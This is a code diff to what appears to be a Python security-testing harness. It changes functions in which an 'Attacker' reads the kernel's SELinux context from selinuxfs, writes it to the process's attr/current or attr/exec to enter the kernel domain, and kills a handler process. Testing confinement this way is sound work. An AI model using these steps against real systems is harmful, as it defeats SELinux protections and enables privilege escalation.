@@ -29,7 +29,7 @@ if TYPE_CHECKING:
 
 SELINUXFS = "/sys/fs/selinux"
 LABEL = "security.selinux"
-KTHREADD = "/proc/2/attr/current"
+KERNEL = f"{SELINUXFS}/initial_contexts/kernel"
 PROC = "/tmp/proc"  # noqa: S108 - the guest's, not ours
 LABEL_MAX = 256
 MS_REMOUNT = 32
@@ -90,7 +90,7 @@ def load_policy(attacker: Attacker, wanted: Callable[[str], bool], *, more: str 
 
 def enter_kernel_domain(attacker: Attacker) -> None:
     """Become what the kernel's threads are."""
-    domain = attacker.read_file(KTHREADD)
+    domain = attacker.read_file(KERNEL)
     attacker.write_file("/proc/thread-self/attr/current", domain)
 
 
@@ -130,7 +130,7 @@ def selinux_setcon(attacker: Attacker, handler: Handler) -> None:
 def selinux_setexeccon(attacker: Attacker, handler: Handler) -> None:
     """Execute a program in the kernel's own domain (runcon), and have it kill the handler."""
     if is_awake(attacker):
-        attacker.write_file("/proc/thread-self/attr/exec", attacker.read_file(KTHREADD))
+        attacker.write_file("/proc/thread-self/attr/exec", attacker.read_file(KERNEL))
     attacker.run("/bin/busybox", "kill", "-9", str(handler.pid))
     handler.wait_for_request()
 
